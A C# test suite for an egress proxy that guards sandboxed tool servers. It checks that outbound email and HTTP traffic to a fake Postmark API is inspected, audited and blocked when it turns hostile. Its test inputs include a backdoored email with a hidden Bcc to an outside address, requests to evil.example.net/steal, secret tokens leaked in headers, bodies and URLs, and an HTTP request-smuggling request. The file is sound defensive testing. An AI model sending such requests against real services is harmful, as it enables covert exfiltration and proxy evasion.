using System.Net;
using System.Text.Json.Nodes;
using McpGuard.Runtime.Egress;

namespace McpGuard.Runtime.Tests.Egress;

/// <summary>Through the real proxy (Unix socket and TCP) to a fake Postmark API over HTTPS.</summary>
public sealed class EgressProxyTests
{
    private const string HonestEmail = """{"From":"sender@example.com","To":"alice@example.com","Subject":"Hi","TextBody":"Hello"}""";
    private const string BackdooredEmail = """{"From":"sender@example.com","To":"alice@example.com","Bcc":"phan@giftshop.club","Subject":"Hi","TextBody":"Hello"}""";

    private static JsonObject AliceArgs() => new() { ["to"] = "Alice <Alice@Example.com>", ["subject"] = "Hi", ["body"] = "Hello" };

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task Connect_HonestEmailWithRecipientInArguments_DeliveredWithRealToken()
    {
        await using var host = await EgressTestHost.StartAsync(unixSocket: true);
        host.BeginCall("1", AliceArgs());
        using var client = host.CreateConnectClient();
        using var response = await SendEmailAsync(host, client, HonestEmail);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Contains("\"Message\":\"OK\"", await response.Content.ReadAsStringAsync(Ct), StringComparison.Ordinal);
        var received = Assert.Single(host.Api.Received);
        Assert.Equal(EgressTestHost.RealToken, received.Token);
        Assert.False(host.Api.SawText(host.Placeholder));
        var audit = Assert.Single(host.Audit.Events);
        Assert.Equal("allow", audit.Decision);
        Assert.Equal("api.postmarkapp.com", audit.Details!["host"]!.GetValue<string>());
        Assert.DoesNotContain(EgressTestHost.RealToken, audit.Details.ToJsonString(), StringComparison.Ordinal);
        Assert.DoesNotContain("Hello", audit.Details.ToJsonString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Connect_HiddenBcc_BlockedAndNeverReachesApi()
    {
        await using var host = await EgressTestHost.StartAsync(unixSocket: true);
        host.BeginCall("7", AliceArgs());
        using var client = host.CreateConnectClient();
        using var response = await SendEmailAsync(host, client, BackdooredEmail);

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        var json = JsonNode.Parse(await response.Content.ReadAsStringAsync(Ct))!;
        Assert.Equal("MCPG601", json["ruleId"]!.GetValue<string>());
        Assert.Contains("phan@giftshop.club", json["message"]!.GetValue<string>(), StringComparison.Ordinal);
        Assert.Empty(host.Api.Received);
        Assert.False(host.Api.SawText("phan@giftshop.club"));
        var audit = Assert.Single(host.Audit.Events);
        Assert.Equal("block", audit.Decision);
        Assert.Equal("MCPG601", audit.RuleId);
        Assert.Equal("7", audit.RequestId);
        Assert.Equal("phan@giftshop.club", audit.Details!["unexpectedRecipients"]![0]!.GetValue<string>());
        var alert = Assert.Single(host.Alerts);
        Assert.True(alert.Blocked);
        Assert.Equal(["phan@giftshop.club"], alert.UnexpectedRecipients);
        Assert.Contains("phan@giftshop.club", alert.ToDisplayLine(), StringComparison.Ordinal);
    }

    /// <summary>
    /// Fail closed inside a CONNECT tunnel (a sandboxed server's usual path): once the audit sink fails, as the journaled
    /// store does for good after a failed journal write, an honest email is not sent and the client gets a 503 through
    /// the tunnel's TLS that says why, without the audit log's location. (The real write failure, on `run`:
    /// JournalFailurePathTests.Run_EgressEventCannotBeWritten_RequestNeverSent_ServerGets503_SessionStops.)
    /// </summary>
    [Fact]
    public async Task Connect_AuditCannotBeWritten_EmailNeverSent_ClientGets503InsideTheTunnel()
    {
        await using var host = await EgressTestHost.StartAsync(unixSocket: true);
        host.Audit.FailFromNowOn(new Audit.AuditWriteException("audit journal write to /home/u/audit.db.journals/1.jnl failed: No space left on device"));
        host.BeginCall("1", AliceArgs());
        using var client = host.CreateConnectClient();
        using var response = await SendEmailAsync(host, client, HonestEmail);

        Assert.Equal(HttpStatusCode.ServiceUnavailable, response.StatusCode);
        var body = await response.Content.ReadAsStringAsync(Ct);
        Assert.Equal("not sent: McpGuard could not record this request in its audit log", JsonNode.Parse(body)!["error"]!.GetValue<string>());
        Assert.DoesNotContain("audit.db", body, StringComparison.Ordinal);
        Assert.Empty(host.Api.Received);
        Assert.Empty(host.Audit.Events);
    }

    /// <summary>
    /// The hidden Bcc while the audit log cannot be written: not sent (503, the audit failure wins over the 403), and the
    /// alert that names the unexpected recipient is still raised, the one trace left when the log fails.
    /// </summary>
    [Fact]
    public async Task Connect_HiddenBcc_AuditCannotBeWritten_NotSent_AlertStillRaised()
    {
        await using var host = await EgressTestHost.StartAsync(unixSocket: true);
        host.Audit.FailFromNowOn(new Audit.AuditWriteException("audit journal write failed"));
        host.BeginCall("7", AliceArgs());
        using var client = host.CreateConnectClient();
        using var response = await SendEmailAsync(host, client, BackdooredEmail);

        Assert.Equal(HttpStatusCode.ServiceUnavailable, response.StatusCode);
        Assert.Empty(host.Api.Received);
        Assert.Empty(host.Audit.Events);
        var alert = Assert.Single(host.Alerts);
        Assert.True(alert.Blocked);
        Assert.Equal(["phan@giftshop.club"], alert.UnexpectedRecipients);
    }

    /// <summary>A refusal that cannot be recorded is still a refusal: the client learns the audit log is the reason.</summary>
    [Fact]
    public async Task AbsoluteForm_HostNotAllowed_AuditCannotBeWritten_Refused503()
    {
        await using var host = await EgressTestHost.StartAsync(unixSocket: false);
        host.Audit.FailFromNowOn(new Audit.AuditWriteException("audit journal write failed"));
        await using var stream = await host.OpenProxyStreamAsync(Ct);

        var response = await RawHttp.SendAsync(stream, "GET http://evil.example.net/x HTTP/1.1\r\nHost: evil.example.net\r\n\r\n", Ct);

        Assert.Equal(503, response.Status);
        Assert.Empty(host.Audit.Events);
        // Unrecorded, but not unseen: the alert (stderr in `run`) still names the refused host.
        var alert = Assert.Single(host.Alerts);
        Assert.True(alert.Blocked);
        Assert.Equal("evil.example.net", alert.Host);
    }

    [Fact]
    public async Task Connect_KeepAlive_SecondRequestOnSameConnectionInspectedToo()
    {
        await using var host = await EgressTestHost.StartAsync(unixSocket: true);
        host.BeginCall("1", AliceArgs());
        using var client = host.CreateConnectClient();
        for (var i = 0; i < 2; i++)
        {
            using var okResponse = await SendEmailAsync(host, client, HonestEmail);
            Assert.Equal(HttpStatusCode.OK, okResponse.StatusCode);
        }

        using var badResponse = await SendEmailAsync(host, client, $"[{HonestEmail},{BackdooredEmail}]", "/email/batch");

        Assert.Equal(HttpStatusCode.Forbidden, badResponse.StatusCode);
        Assert.Equal(2, host.Api.Received.Count);
        Assert.False(host.Api.SawText("phan@giftshop.club"));
    }

    [Fact]
    public async Task AbsoluteForm_HttpsTargetLikeOldAxios_InspectedAndForwardedOverTls()
    {
        await using var host = await EgressTestHost.StartAsync(unixSocket: false);
        host.BeginCall("1", AliceArgs());
        await using var stream = await host.OpenProxyStreamAsync(Ct);

        var ok = await RawHttp.SendAsync(stream, Post("https://api.postmarkapp.com/email", HonestEmail, host.Placeholder), Ct);
        var blocked = await RawHttp.SendAsync(stream, Post("https://api.postmarkapp.com/email", BackdooredEmail, host.Placeholder), Ct);

        Assert.Equal(200, ok.Status);
        Assert.Equal(403, blocked.Status);
        Assert.Equal("MCPG601", blocked.Headers["X-McpGuard-Block"]);
        Assert.Equal(EgressTestHost.RealToken, Assert.Single(host.Api.Received).Token);
    }

    [Fact]
    public async Task AbsoluteForm_ChunkedBody_DecodedAndInspected()
    {
        await using var host = await EgressTestHost.StartAsync(unixSocket: false);
        host.BeginCall("1", AliceArgs());
        await using var stream = await host.OpenProxyStreamAsync(Ct);
        var half = BackdooredEmail.Length / 2;
        var chunked = $"POST https://api.postmarkapp.com/email HTTP/1.1\r\nHost: api.postmarkapp.com\r\nContent-Type: application/json\r\n"
            + $"X-Postmark-Server-Token: {host.Placeholder}\r\nTransfer-Encoding: chunked\r\n\r\n"
            + $"{half:X}\r\n{BackdooredEmail[..half]}\r\n{BackdooredEmail.Length - half:X}\r\n{BackdooredEmail[half..]}\r\n0\r\n\r\n";

        var response = await RawHttp.SendAsync(stream, chunked, Ct);

        Assert.Equal(403, response.Status);
        Assert.Empty(host.Api.Received);
    }

    [Fact]
    public async Task Request_NoCallInFlight_MailBlockedAndOtherBodiesFlagged()
    {
        await using var host = await EgressTestHost.StartAsync(unixSocket: true);
        using var client = host.CreateConnectClient();
        using var response = await SendEmailAsync(host, client, HonestEmail);

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Contains("no tool call is in flight", Assert.Single(host.Audit.Events).Reason, StringComparison.Ordinal);
        Assert.Empty(host.Api.Received);
    }

    [Fact]
    public async Task Request_NoCallInFlightNonMailBody_AllowedButFlagged()
    {
        await using var host = await EgressTestHost.StartAsync(unixSocket: true);
        using var client = host.CreateConnectClient();

        // Not a mail API path on the fake, but a body with no call in flight: forwarded (404 upstream) and flagged.
        using var response = await client.PostAsync("https://api.postmarkapp.com/ping", EgressTestHost.Json("""{"beacon":1}"""), Ct);

        var audit = Assert.Single(host.Audit.Events);
        Assert.Equal("alert", audit.Decision);
        Assert.Equal("MCPG602", audit.RuleId);
        Assert.Contains(host.Alerts, a => a.RuleId == "MCPG602" && !a.Blocked);
    }

    [Fact]
    public async Task Connect_HostNotAllowed_RefusedBeforeTunnel()
    {
        await using var host = await EgressTestHost.StartAsync(unixSocket: true);
        host.BeginCall("1", AliceArgs());
        using var client = host.CreateConnectClient();

        var error = await Assert.ThrowsAsync<HttpRequestException>(() => client.GetAsync("https://evil.example.net/steal", Ct));

        Assert.Contains("403", error.Message, StringComparison.Ordinal);
        var audit = Assert.Single(host.Audit.Events);
        Assert.Equal("MCPG600", audit.RuleId);
        Assert.Equal("CONNECT", audit.Method);
    }

    [Fact]
    public async Task AbsoluteForm_HostNotAllowed_Blocked()
    {
        await using var host = await EgressTestHost.StartAsync(unixSocket: false);
        await using var stream = await host.OpenProxyStreamAsync(Ct);

        var response = await RawHttp.SendAsync(stream, "GET http://evil.example.net/x HTTP/1.1\r\nHost: evil.example.net\r\n\r\n", Ct);

        Assert.Equal(403, response.Status);
        Assert.Equal("MCPG600", response.Headers["X-McpGuard-Block"]);
    }

    [Fact]
    public async Task Placeholder_InBody_BlockedAsExfiltration()
    {
        await using var host = await EgressTestHost.StartAsync(unixSocket: true);
        host.BeginCall("1", AliceArgs());
        using var client = host.CreateConnectClient();
        var body = HonestEmail.Replace("Hello", "token " + host.Placeholder, StringComparison.Ordinal);
        using var response = await SendEmailAsync(host, client, body);

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Equal("MCPG604", Assert.Single(host.Audit.Events).RuleId);
        Assert.Empty(host.Api.Received);
    }

    [Fact]
    public async Task Placeholder_InOtherHeaderOrOtherHostOrPlainHttp_Blocked()
    {
        await using var host = await EgressTestHost.StartAsync(unixSocket: false);
        host.BeginCall("1", AliceArgs());

        await using (var stream = await host.OpenProxyStreamAsync(Ct))
        {
            var otherHeader = await RawHttp.SendAsync(stream,
                $"GET https://api.postmarkapp.com/ping HTTP/1.1\r\nHost: api.postmarkapp.com\r\nAuthorization: Bearer {host.Placeholder.ToUpperInvariant()}\r\n\r\n", Ct);
            Assert.Equal(403, otherHeader.Status);
            var plain = await RawHttp.SendAsync(stream,
                $"GET http://api.postmarkapp.com/ping HTTP/1.1\r\nHost: api.postmarkapp.com\r\nX-Postmark-Server-Token: {host.Placeholder}\r\n\r\n", Ct);
            Assert.Equal(403, plain.Status);
            var otherHost = await RawHttp.SendAsync(stream,
                $"GET https://x.allowed.test/ HTTP/1.1\r\nHost: x.allowed.test\r\nX-Postmark-Server-Token: {host.Placeholder}\r\n\r\n", Ct);
            Assert.Equal(403, otherHost.Status);
            var inUrl = await RawHttp.SendAsync(stream,
                $"GET https://api.postmarkapp.com/ping?t={host.Placeholder} HTTP/1.1\r\nHost: api.postmarkapp.com\r\n\r\n", Ct);
            Assert.Equal(403, inUrl.Status);
        }

        Assert.All(host.Audit.Events, e => Assert.Equal("MCPG604", e.RuleId));
        Assert.Equal(4, host.Audit.Events.Count);
        Assert.Empty(host.Api.Received);
    }

    [Fact]
    public async Task Body_LargerThanLimit_BlockedUnread()
    {
        await using var host = await EgressTestHost.StartAsync(unixSocket: false, p => p with { Limits = p.Limits with { MaxBodyBytes = 1024 } });
        host.BeginCall("1", AliceArgs());
        await using var stream = await host.OpenProxyStreamAsync(Ct);

        var response = await RawHttp.SendAsync(stream,
            $"POST https://api.postmarkapp.com/email HTTP/1.1\r\nHost: api.postmarkapp.com\r\nContent-Length: 5000\r\nX-Postmark-Server-Token: {host.Placeholder}\r\n\r\n", Ct);

        Assert.Equal(403, response.Status);
        Assert.Equal("MCPG603", response.Headers["X-McpGuard-Block"]);
        Assert.Equal("close", response.Headers["Connection"]);
        Assert.Empty(host.Api.Received);
    }

    [Fact]
    public async Task Body_GarbledMailJson_BlockedFailClosed()
    {
        await using var host = await EgressTestHost.StartAsync(unixSocket: true);
        host.BeginCall("1", AliceArgs());
        using var client = host.CreateConnectClient();
        using var response = await SendEmailAsync(host, client, """{"To":"alice@example.com","Bcc":"phan@giftshop.club","Bcc":"x" """);

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Equal("MCPG603", Assert.Single(host.Audit.Events).RuleId);
        Assert.Empty(host.Api.Received);
    }

    [Fact]
    public async Task Request_ContentLengthAndTransferEncoding_RefusedAsSmuggling()
    {
        await using var host = await EgressTestHost.StartAsync(unixSocket: false);
        await using var stream = await host.OpenProxyStreamAsync(Ct);

        var response = await RawHttp.SendAsync(stream,
            "POST https://api.postmarkapp.com/email HTTP/1.1\r\nHost: api.postmarkapp.com\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", Ct);

        Assert.Equal(400, response.Status);
        Assert.Equal("MCPG606", response.Headers["X-McpGuard-Block"]);
        Assert.Empty(host.Api.Received);
    }

    [Fact]
    public async Task Connect_HostHeaderDiffersFromTunnel_Refused421()
    {
        await using var host = await EgressTestHost.StartAsync(unixSocket: true);
        host.BeginCall("1", AliceArgs());
        await using var stream = await host.OpenProxyStreamAsync(Ct);
        var connect = await RawHttp.SendAsync(stream, "CONNECT api.postmarkapp.com:443 HTTP/1.1\r\nHost: api.postmarkapp.com:443\r\n\r\n", Ct);
        Assert.Equal(200, connect.Status);
        await using var tls = new System.Net.Security.SslStream(stream, leaveInnerStreamOpen: true);
        await tls.AuthenticateAsClientAsync(
            new System.Net.Security.SslClientAuthenticationOptions { TargetHost = "api.postmarkapp.com", RemoteCertificateValidationCallback = host.ValidateAgainstProxyCa },
            Ct);

        var response = await RawHttp.SendAsync(tls, "GET /ping HTTP/1.1\r\nHost: x.allowed.test\r\n\r\n", Ct);

        Assert.Equal(421, response.Status);
        Assert.Empty(host.Api.Received);
    }

    [Fact]
    public async Task Connect_SniDiffersFromTunnel_HandshakeRefused()
    {
        await using var host = await EgressTestHost.StartAsync(unixSocket: true);
        await using var stream = await host.OpenProxyStreamAsync(Ct);
        await RawHttp.SendAsync(stream, "CONNECT api.postmarkapp.com:443 HTTP/1.1\r\nHost: api.postmarkapp.com:443\r\n\r\n", Ct);
        await using var tls = new System.Net.Security.SslStream(stream, leaveInnerStreamOpen: true);

        await Assert.ThrowsAnyAsync<Exception>(() => tls.AuthenticateAsClientAsync(
            new System.Net.Security.SslClientAuthenticationOptions { TargetHost = "x.allowed.test", RemoteCertificateValidationCallback = (_, _, _, _) => true },
            Ct));

        await WaitForAsync(() => host.Audit.Events.Count > 0);
        Assert.Equal("MCPG606", Assert.Single(host.Audit.Events).RuleId);
    }

    [Fact]
    public async Task Connect_ClientNotTrustingCa_HandshakeFailsAndIsAudited()
    {
        await using var host = await EgressTestHost.StartAsync(unixSocket: true);
        using var handler = new SocketsHttpHandler
        {
            UseProxy = false,
            ConnectCallback = async (context, ct) =>
            {
                var stream = await host.OpenProxyStreamAsync(ct);
                await RawHttp.SendAsync(stream, "CONNECT api.postmarkapp.com:443 HTTP/1.1\r\nHost: api.postmarkapp.com:443\r\n\r\n", ct);
                return stream;
            },
        };
        using var client = new HttpClient(handler);

        await Assert.ThrowsAsync<HttpRequestException>(() => client.GetAsync("https://api.postmarkapp.com/ping", Ct));

        await WaitForAsync(() => host.Audit.Events.Count > 0);
        Assert.Equal("MCPG606", Assert.Single(host.Audit.Events).RuleId);
        Assert.Empty(host.Api.Received);
    }

    [Fact]
    public async Task Start_InvalidPolicy_ThrowsUserInputWithoutSecretValue()
    {
        var policy = new EgressPolicy
        {
            Server = "s",
            AllowedHosts = ["api.postmarkapp.com"],
            Secrets = [new EgressSecret("TOKEN", "super-secret-value", "evil.example", "X-Token")],
        };

        var error = Assert.Throws<McpGuard.Core.UserInputException>(() => EgressPolicyValidator.ThrowIfInvalid(policy));

        Assert.Contains("evil.example", error.Message, StringComparison.Ordinal);
        Assert.DoesNotContain("super-secret-value", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Start_UnixSocket_OwnerOnlyAndRemovedOnDispose()
    {
        var host = await EgressTestHost.StartAsync(unixSocket: true);
        var path = host.Proxy.SocketPath!;
        Assert.True(File.Exists(path));
        if (!OperatingSystem.IsWindows())
        {
            Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(path));
        }

        await host.DisposeAsync();

        Assert.False(File.Exists(path));
    }

    [Fact]
    public void ParseResolve_HostEqualsEndpoint_ParsedElseUserInputError()
    {
        var (host, endPoint) = EgressProxyOptions.ParseResolve("API.postmarkapp.com=127.0.0.1:8443");

        Assert.Equal("api.postmarkapp.com", host);
        Assert.Equal(8443, endPoint.Port);
        Assert.Throws<McpGuard.Core.UserInputException>(() => EgressProxyOptions.ParseResolve("api.postmarkapp.com:443"));
        Assert.Throws<McpGuard.Core.UserInputException>(() => EgressProxyOptions.ParseResolve("h=127.0.0.1"));
    }

    private static async Task<HttpResponseMessage> SendEmailAsync(EgressTestHost host, HttpClient client, string json, string path = "/email")
    {
        using var request = new HttpRequestMessage(HttpMethod.Post, "https://api.postmarkapp.com" + path) { Content = EgressTestHost.Json(json) };
        request.Headers.Add("X-Postmark-Server-Token", host.Placeholder);
        return await client.SendAsync(request, Ct);
    }

    private static string Post(string url, string json, string token) =>
        $"POST {url} HTTP/1.1\r\nHost: api.postmarkapp.com\r\nContent-Type: application/json\r\nAccept: application/json\r\n"
        + $"X-Postmark-Server-Token: {token}\r\nContent-Length: {System.Text.Encoding.UTF8.GetByteCount(json)}\r\n\r\n{json}";

    private static async Task WaitForAsync(Func<bool> condition)
    {
        using var timeout = CancellationTokenSource.CreateLinkedTokenSource(Ct);
        timeout.CancelAfter(TimeSpan.FromSeconds(20));
        while (!condition())
        {
            await Task.Delay(20, timeout.Token);
        }
    }
}
